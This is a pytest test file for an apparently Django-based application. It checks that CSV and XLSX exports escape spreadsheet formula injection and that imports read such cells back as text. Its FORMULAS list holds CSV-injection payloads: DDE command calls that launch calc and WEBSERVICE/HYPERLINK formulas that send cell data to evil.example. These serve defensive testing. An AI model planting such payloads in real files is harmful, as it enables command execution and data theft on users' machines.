"""No file we write calculates anything, and none loses a sign; none we read is calculated."""

import csv
import io
import re
import zipfile
from typing import Any

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from oia.office import reading
from oia.ui import exports
from oia.ui.exports import guard, unguard
from tests import factories as make
from tests.pages.routes import routes
from tests.pages.walk import furnish
from tests.soak import poison
from tests.soak.trial import FULL, Trial

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "=1+1\n=2", "'=1+1",
    "''=1+1",
    "=cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1;"x")', '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example";"//a")', '=IMAGE("http://evil.example/a.png")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'..\\..\\calc.exe'!''", "{=1+1}", "=A1", "=-1",
    "+-1",
    "--1", "-+1", "=\u00a01+1", "\u00a0=1+1", " =1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1",
    "\uff201", "|calc", "%0A=1+1", '";=1+1', '"\n=1+1', ";=1+1", "=1+1;=2", "=\"a\"", "=TRUE",
    "-a", "+a",
    "@a", "=", "+", "-", "@", "-5", "-5,5", "+49 30 1234", "http://evil.example", "mailto:a@b.c",
    "#REF!", "=_xlfn.FILTERXML(A1)", "\x1b=1+1", "=1+1\t", "= 1+1",
)  # fmt: skip
LIVE = re.compile(r"[=+\-@\t\r\n]")
NUMBER = re.compile(r"-[\d.,]+")
# What no sheet of ours holds.
ALIVE = (b"<f>", b"<f ", b"hyperlink", b"externalLink", b"ddeLink", b"vbaProject")


def lists() -> list[str]:
    found = [route.name for route in routes() if route.name.endswith("_list") and route.view_class]
    return [name for name in found if hasattr(route_of(name).view_class, "table")]


def route_of(name: str) -> Any:
    return next(route for route in routes() if route.name == name)


@pytest.fixture
def columns() -> list[poison.Column]:
    found = [one for one in poison._columns() if isinstance(one, poison.Column)]
    for column in found:
        widest = max(map(len, column.packs))
        column.packs = [text for text in FORMULAS if len(text) <= widest]
        column.first %= len(column.packs)
    return found


def test_no_formula_leaves_or_enters(
    office: Any, columns: list[poison.Column], trial: Trial, monkeypatch: pytest.MonkeyPatch
) -> None:
    trial.promise = (
        f"{len(FORMULAS)} formulas and what looks like one, in every text of every list, in its "
        "CSV and XLSX: no live cell, and each text comes back as it was; read from a file of "
        "ours they are texts; counted are cells"
    )
    trial.control = "cells written as they are"
    furnish(office, make.make_user("club"))
    # What the formulas stand in: rows that may be changed, and no numbers of files.
    clients = {role: Client() for role in ("head", "officer", "admin")}
    for role, client in clients.items():
        client.force_login(make.make_user(role))
    names = lists() if FULL else lists()[::6]
    for turn in range(trial.size(sample=1, full=len(FORMULAS) // 3 + 1)):
        for column in columns:
            column.fill(turn)
        for name in names:
            _export(trial, clients, name)
    for text in FORMULAS:
        trial.saw(held=unguard(guard(text)) == text)
        trial.saw(held=_read_back(text))
    with monkeypatch.context() as without:
        without.setattr(exports, "guard", lambda text: text)
        data = _file(clients, "event_list", "csv")
        trial.control_saw(broke=any(is_live(cell) for row in rows_of(data) for cell in row))


def _export(trial: Trial, clients: dict[str, Client], name: str) -> None:
    data = _file(clients, name, "csv")
    if data is None:
        return
    for row in rows_of(data)[1:]:
        for cell in row:
            if LIVE.match(cell) or cell.startswith("'"):
                held = not is_live(cell)
                if not held:
                    print(f"{name}: {cell!r}")
                trial.saw(held=held)
    book = _file(clients, name, "xlsx")
    assert book is not None
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        inside = b"".join(parts.read(part) for part in parts.namelist() if "theme" not in part)
    alive = [mark for mark in ALIVE if mark in inside]
    if alive:
        print(f"{name}: {alive}")
    cells = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_index(0).to_python()
    shown = [cell for row in cells[1:] for cell in row if isinstance(cell, str)]
    for cell in shown:
        if LIVE.match(cell):
            trial.saw(held=not alive)


def _file(clients: dict[str, Client], name: str, kind: str) -> bytes | None:
    """The list as a file, by whoever may have it."""
    for client in clients.values():
        answer: Any = client.get(f"{route_of(name).address()}?export={kind}")
        found = b"".join(answer.streaming_content) if answer.streaming else answer.content
        if answer.status_code == 200 and "html" not in answer.headers["Content-Type"]:
            return bytes(found)
    return None


def rows_of(data: bytes | None) -> list[list[str]]:
    text = (data or b"").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def is_live(cell: str) -> bool:
    """Whether a spreadsheet would calculate it; a number with its sign is a number."""
    return bool(LIVE.match(cell)) and not NUMBER.fullmatch(cell)


def _read_back(text: str) -> bool:
    """A file of ours, read for an import: the same text, or refused as a formula."""
    cell = guard(text).replace('"', '""')
    data = f'place;note\r\nLyon;"{cell}"\r\n'.encode("utf-8-sig")
    found = reading.read(data, "rows.csv")
    return text.strip() in str(found) or repr(text.strip())[1:-1] in str(found)
